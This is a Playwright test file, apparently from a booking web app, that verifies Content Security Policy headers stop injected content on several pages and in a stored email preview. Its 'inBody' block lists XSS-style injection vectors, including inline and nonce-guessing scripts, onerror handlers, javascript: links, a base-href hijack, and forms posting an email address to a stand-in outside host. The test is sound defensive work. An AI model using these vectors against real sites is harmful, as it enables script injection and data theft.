/**
 * A27: should somebody ever write into a page of ours, the browser runs nothing of it and sends nothing away, because the
 * answer's headers say so, and the page goes on to work. The attack is written into real answers, under their real headers.
 */
import { randomUUID } from "node:crypto";
import type { Page } from "@playwright/test";
import { row } from "../support/database";
import { stepUrl } from "./couple";
import { signedIn } from "./photographer";
import { expect, test as base } from "./visitors";

const elsewhere = "http://elsewhere.test";

const test = base.extend<{ sent: string[] }>({
  /** What is asked of somebody else's server, which answers everybody. */
  sent: async ({ context }, use) => {
    const sent: string[] = [];
    const types: Partial<Record<string, string>> = { script: "text/javascript", stylesheet: "text/css", image: "image/svg+xml" };
    await context.route(`${elsewhere}/**`, (route) => {
      const kind = route.request().resourceType();
      sent.push(new URL(route.request().url()).pathname);
      return route.fulfill({ contentType: types[kind] ?? "text/html", body: kind === "script" ? 'ran("a script from elsewhere")' : kind === "document" ? "Elsewhere." : "" });
    });
    await use(sent);
  },
});

// What the browser says of it; React finds a page that is not as it wrote it, and writes it anew; and the frame of a letter
// runs no script, and so not Playwright's own either.
test.use({ expectedNoise: [[/Content Security Policy/, /csp$/, /elsewhere\.test/, /React error #4(18|23)/, /Blocked script execution in 'about:srcdoc'/], { scope: "test" }] });

const inHead = `<base href="${elsewhere}/">`;
const inBody = `
  <div id="attack">
    <script>ran("an inline script")</script>
    <script nonce="">ran("a script with an empty nonce")</script>
    <script nonce="AAAAAAAAAAAAAAAAAAAAAA==">ran("a script with a guessed nonce")</script>
    <script src="${elsewhere}/script"></script>
    <script src="data:text/javascript,ran('a script in its own address')"></script>
    <img src="data:image/png;base64,eA==" onerror="ran('an onerror')" alt="">
    <img src="${elsewhere}/picture" alt="">
    <iframe src="${elsewhere}/frame" title="a frame"></iframe>
    <iframe srcdoc="<script>parent.ran('a script in a frame')</script>" title="a frame of its own words"></iframe>
    <link rel="stylesheet" href="${elsewhere}/style">
    <style>#attack { background: url(${elsewhere}/background) }</style>
    <p style="background: url(${elsewhere}/attribute)">An attack.</p>
    <a href="javascript:ran('a javascript: link')">A lure</a>
    <form action="${elsewhere}/form" method="post"><input name="email" value="nora@example.test"><button>A trap</button></form>
    <form method="post"><button formaction="${elsewhere}/button">Another trap</button></form>
  </div>`;

/** Notes what runs, and what the browser refuses. */
async function watched(page: Page): Promise<{ ran: string[]; refused: () => Promise<string[]> }> {
  const ran: string[] = [];
  await page.exposeFunction("ran", (what: string) => void ran.push(what));
  await page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
  });
  return { ran, refused: () => page.evaluate(() => (window as unknown as { refused: string[] }).refused) };
}

/** Writes the attack into the next answers to this path. */
async function attack(page: Page, path: string, headers: (real: Record<string, string>) => Record<string, string> = (real) => real): Promise<void> {
  await page.route((url) => url.pathname === path, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("<head>", `<head>${inHead}`).replace(/<body[^>]*>/, (tag) => tag + inBody);
    await route.fulfill({ response, body, headers: headers(response.headers()) });
  });
}

const once = (all: string[]) => [...new Set(all)].sort();

/** Not by a locator, as a hand would: Playwright waits for ever for the page that a refused form was to lead to. */
const press = (page: Page, name: string) =>
  page.evaluate((words) => [...document.querySelectorAll<HTMLElement>("#attack a, #attack button")].find(({ textContent }) => textContent === words)!.click(), name);

test("the attack is a real one: without the policy all of it runs, and all of it is sent", async ({ page, sent }) => {
  const { ran } = await watched(page);
  await attack(page, "/packages", ({ "content-security-policy": _, ...others }) => others);
  for (const trap of ["A trap", "Another trap"]) {
    await page.goto("/packages");
    await press(page, "A lure");
    await expect.poll(() => once(ran)).toEqual([
      "a javascript: link",
      "a script from elsewhere",
      "a script in a frame",
      "a script in its own address",
      "a script with a guessed nonce",
      "a script with an empty nonce",
      "an inline script",
      "an onerror",
    ]);
    await press(page, trap);
    await expect(page.getByText("Elsewhere.")).toBeVisible();
  }
  await expect.poll(() => once(sent)).toEqual(expect.arrayContaining(["/attribute", "/background", "/button", "/form", "/frame", "/picture", "/script", "/style"]));
  expect(sent.some((path) => path.startsWith("/assets/")), "by the base, what is the site's own is asked for there").toBe(true);
});

type Watched = Awaited<ReturnType<typeof watched>>;

async function expectRefusal(page: Page, { ran, refused }: Watched, sent: string[]): Promise<void> {
  await expect.poll(async () => once(await refused())).toEqual(["base-uri", "frame-src", "img-src", "script-src-attr", "script-src-elem", "style-src-elem"]);
  expect(await page.evaluate(() => new URL("x", document.baseURI).origin)).toBe(new URL(page.url()).origin);
  expect([ran, sent]).toEqual([[], []]);
}

/** Whoever is lured presses everything there is. */
async function pressAll(page: Page, { ran, refused }: Watched, sent: string[]): Promise<void> {
  for (const [name, directive] of [["A lure", "script-src-elem"], ["A trap", "form-action"], ["Another trap", "form-action"]] as const) {
    const count = async () => (await refused()).filter((each) => each === directive).length;
    const before = await count();
    await press(page, name);
    await expect.poll(count, name).toBe(before + 1);
  }
  expect([ran, sent]).toEqual([[], []]);
}

test("into a couples' page: nothing runs, nothing is sent, and the calendar turns its pages", async ({ page, sent }) => {
  const all = await watched(page);
  await attack(page, "/book/date");
  await page.goto(stepUrl("date", { package: "the-vow" }));
  await expectRefusal(page, all, sent);
  const month = page.getByRole("table").locator("caption [aria-live]");
  const before = await month.innerText();
  await page.getByRole("link", { name: "Next month" }).click();
  await expect(month).not.toHaveText(before);
  await pressAll(page, all, sent);
});

test("into a page of the admin: nothing runs, nothing is sent, and React writes the page anew", async ({ page, sent }) => {
  await signedIn(page);
  const all = await watched(page);
  await attack(page, "/admin/calendar");
  // React takes the attack away; it comes when all has been pressed.
  let comes = () => {};
  const pressed = new Promise<void>((resolve) => (comes = resolve));
  await page.route(/\/assets\/.*\.js$/, (route) => pressed.then(() => route.continue()));
  await page.goto("/admin/calendar", { waitUntil: "commit" });
  await expectRefusal(page, all, sent);
  await pressAll(page, all, sent);
  comes();
  // Only React shows it.
  await expect.poll(() => page.evaluate(() => document.body.innerText)).toContain("Choose days to close");
  expect(await page.evaluate(() => document.querySelector("#attack"))).toBeNull();
  expect([all.ran, sent]).toEqual([[], []]);
});

test("into a letter: nothing runs in its frame, nothing is sent from it, and it leads nowhere", async ({ page, sent }) => {
  const { id } = await row<{ id: string }>(
    `insert into emails (template, recipient, data, dedupe_key, status, subject, html, body_text)
     values ('needs-you', 'nora@example.test', '{"finding": {"kind": "test", "subject": "a test"}}', $1, 'sent', 'Needs you', $2, 'It says this.') returning id`,
    [randomUUID(), `<html><head>${inHead}</head><body><a href="${elsewhere}/link" style="display: block; height: 10rem">It says this.</a>${inBody}</body></html>`],
  );
  await signedIn(page);
  const { ran } = await watched(page);
  const refused: string[] = [];
  page.on("console", (message) => refused.push(message.text()));
  const count = (words: string) => refused.filter((text) => text.includes("Content Security Policy") && text.includes(words)).length;
  await page.goto(`/admin/studio/emails/${id}`);
  for (const words of [`${elsewhere}/picture`, "base-uri", "style-src", "frame-src"]) await expect.poll(() => count(words), words).toBeGreaterThan(0);
  const before = count("frame-src");
  await page.getByTitle("The letter").click({ position: { x: 40, y: 40 } });
  await expect.poll(() => count("frame-src"), "the link").toBeGreaterThan(before);
  expect([ran, sent]).toEqual([[], []]);
});
